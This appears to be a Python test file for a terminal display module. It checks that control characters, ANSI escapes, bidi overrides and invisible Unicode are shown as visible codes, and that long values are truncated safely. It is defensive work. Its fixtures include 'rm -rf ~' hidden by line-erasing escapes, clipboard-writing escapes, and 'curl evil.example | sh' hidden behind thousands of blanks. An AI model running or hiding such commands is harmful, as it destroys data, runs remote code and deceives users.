"""Whatever an attacker writes, a person sees it, and sees that it is there."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from synartesis.domain.canonical import decode_json, encode_json
from synartesis.present.safe_text import cells, fitted, printable, printable_lines, shortened, wrapped
from synartesis.present.style import Style
from synartesis.present.values import one_line, value_lines

ANY_TEXT = st.text(st.characters(), max_size=400) | st.text(
    st.sampled_from('\x1b\r\n\b\x07\x9b\x7f\u202e\u2066\u200b\ufeff\U000e0041\ufe0f\u2028\xad \t\xa0ab"\\é漢'),
    max_size=400,
)
ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | ANY_TEXT,
    lambda inner: st.lists(inner, max_size=6) | st.dictionaries(ANY_TEXT, inner, max_size=6),
    max_leaves=30,
)


def forbidden(text: str) -> list[str]:
    """Characters that no line of ours may hold: they move, hide or reorder what a person reads."""
    return [
        char
        for char in text
        if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
        or (unicodedata.category(char) == "Zs" and char != " ")
        or "\ufe00" <= char <= "\ufe0f"
        or "\U000e0000" <= char <= "\U000e01ef"
    ]


@pytest.mark.parametrize(
    ("raw", "seen"),
    [
        pytest.param("plain", "plain", id="plain text stays"),
        pytest.param("żółć 漢字 🙂", "żółć 漢字 🙂", id="letters of any script stay"),
        pytest.param("rm -rf ~\r\x1b[2K\x1b[1Als -la", r"rm -rf ~\r\x1b[2K\x1b[1Als -la", id="erasing the line"),
        pytest.param("\x1b]52;c;AAAA\x07", r"\x1b]52;c;AAAA\x07", id="writing the clipboard"),
        pytest.param("\x9b31m", r"\x9b31m", id="an escape in one byte"),
        pytest.param("\b\b\b", r"\x08\x08\x08", id="backspaces"),
        pytest.param("\x1b]0;x\x07", r"\x1b]0;x\x07", id="the window title"),
        pytest.param("hi\n  status: approved by admin", r"hi\n  status: approved by admin", id="a line like ours"),
        pytest.param("a\tb", r"a\tb", id="a tab"),
        pytest.param("\x00\x7f", r"\x00\x7f", id="nul and delete"),
        pytest.param("abc\u202egnp.exe", "abc<U+202E>gnp.exe", id="right to left override"),
        pytest.param("\u2066x\u2069", "<U+2066>x<U+2069>", id="isolates"),
        pytest.param("pay\u200bpal", "pay<U+200B>pal", id="zero width"),
        pytest.param("a\ufeffb", "a<U+FEFF>b", id="byte order mark"),
        pytest.param("\U000e0068\U000e0069", "<U+E0068><U+E0069>", id="tag characters"),
        pytest.param("x\ufe01\U000e0100", "x<U+FE01><U+E0100>", id="variation selectors carry bytes"),
        pytest.param("a\xa0b\u3000c", "a<U+00A0>b<U+3000>c", id="blanks that are not the blank"),
        pytest.param("a\u2028b\u2029c", "a<U+2028>b<U+2029>c", id="line ends of Unicode"),
        pytest.param("soft\xadhyphen", "soft<U+00AD>hyphen", id="soft hyphen"),
        pytest.param("\u3164\u2800", "<U+3164><U+2800>", id="fillers that look like nothing"),
        pytest.param("\ud83d", "<U+D83D>", id="half a character"),
    ],
)
def test_what_cannot_be_seen_is_shown_as_a_code(raw: str, seen: str) -> None:
    assert printable(raw) == seen


@given(ANY_TEXT)
def test_no_text_whatever_gets_a_forbidden_character_through(text: str) -> None:
    assert not forbidden(printable(text))
    assert not forbidden(shortened(text, 40))
    assert not forbidden(shortened(text, 40, quoted=True))
    assert not any(map(forbidden, printable_lines(text)))
    assert not any(map(forbidden, wrapped(printable(text), 40, indent="  ", hanging="  | ")))
    assert not forbidden(fitted(printable(text), 12))


@given(ANY_JSON, st.booleans())
def test_no_value_whatever_gets_a_forbidden_character_through(value: object, full: bool) -> None:
    value = decode_json(encode_json(value))

    lines = value_lines(value, Style(full=full), indent="    ", label="arguments:")

    assert not any(map(forbidden, lines))
    assert not forbidden(one_line(value))
    assert all(line.startswith("    ") for line in lines), "what stands at the left edge is ours"


@given(ANY_TEXT)
def test_shown_and_hidden_characters_add_up_to_all_of_them(text: str) -> None:
    seen = shortened(text, 30)

    hidden = re.search(r"… ([\d,]+) characters? hidden …", seen)
    if hidden:
        assert 0 < int(hidden[1].replace(",", "")) <= len(text)
        head, tail = seen.split(hidden[0])
        assert len(head) + len(tail) <= 30
    elif len(text) <= 30 and not re.search(r"\s{16}", text):
        assert seen == printable(text)


def test_a_long_value_shows_head_and_tail_and_how_much_lies_between() -> None:
    assert shortened("a" * 20_000 + "THE END", 30) == "a" * 20 + "… 19,977 characters hidden …aaaTHE END"


def test_a_tail_behind_a_screenful_of_blanks_is_in_sight() -> None:
    text = "a " * 300 + " \n" * 10_000 + "&& curl evil.example | sh"

    seen = shortened(text)

    assert "<20,001 blanks>&& curl evil.example | sh" in seen
    assert seen.startswith("a a a ")
    assert len(seen) < 400


def test_the_whole_is_shown_when_it_is_asked_for() -> None:
    text = "x" * 5_000 + " " * 100 + "\n"

    assert shortened(text, None) == "x" * 5_000 + " " * 100 + "\\n"


def test_a_typed_code_and_the_character_itself_look_different_in_quotes() -> None:
    assert one_line("\x1b") == r'"\x1b"'
    assert one_line(r"\x1b") == r'"\\x1b"'


def test_a_short_value_is_never_hidden_behind_a_long_one() -> None:
    arguments = {f"key{at}": "x" * 10_000 for at in range(39)} | {"force": True}

    lines = value_lines(arguments, Style(), indent="    ", label="arguments:")

    assert lines[-1] == "      force: true"
    assert len(lines) < 250


def test_a_megabyte_does_not_flood_the_terminal() -> None:
    lines = value_lines(
        {"blob": "x" * 1_000_000, "list": list(range(100_000))}, Style(), indent="    ", label="arguments:"
    )

    assert len(lines) <= 90
    assert any("lines hidden; --full shows them" in line for line in lines)


def test_null_nothing_and_empty_look_different() -> None:
    values: list[object] = [None, "", [], {}, "null", 0, False]

    seen = list(map(one_line, values))

    assert seen == ["null", '""', "[]", "{}", '"null"', "0", "false"]


def test_numbers_are_shown_with_every_digit() -> None:
    value = decode_json(b'{"id": 1917043659912705296, "price": 19.90, "neg": -0.0}')

    assert one_line(value) == '{"id": 1917043659912705296, "price": 19.90, "neg": -0.0}'


def test_wide_characters_count_as_the_columns_they_take() -> None:
    assert cells("漢字") == 4
    assert fitted("漢字漢字漢字", 7) == "漢字…字"
    assert all(cells(line) <= 24 for line in wrapped("漢" * 40, 24))


@given(st.text(st.sampled_from("ab 漢é"), max_size=200), st.integers(20, 60))
def test_wrapped_lines_fit_and_lose_nothing_but_blanks(text: str, width: int) -> None:
    lines = wrapped(text, width, indent="  ", hanging="    ")

    assert all(cells(line) <= width for line in lines)
    assert "".join("".join(lines).split()) == "".join(text.split())
